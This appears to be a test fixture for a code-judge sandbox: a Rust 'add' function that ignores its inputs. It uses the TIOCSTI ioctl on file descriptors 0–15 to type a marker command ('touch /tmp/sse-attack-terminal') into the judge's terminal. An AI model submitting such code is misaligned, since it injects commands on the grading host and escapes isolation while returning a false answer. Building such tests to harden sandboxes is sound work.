// Tries: type a command into the judge's terminal
// Kind: host

extern "C" { fn ioctl(descriptor: i32, request: u64, argument: *const u8) -> i32; }

pub fn add(_: i64, _: i64) -> i64 {
    let mut typed = 0;
    for descriptor in 0..16 {
        for letter in b"touch /tmp/sse-attack-terminal\n" { typed += unsafe { ioctl(descriptor, 0x5412, letter) } }
    }
    i64::from(typed) + 1000
}
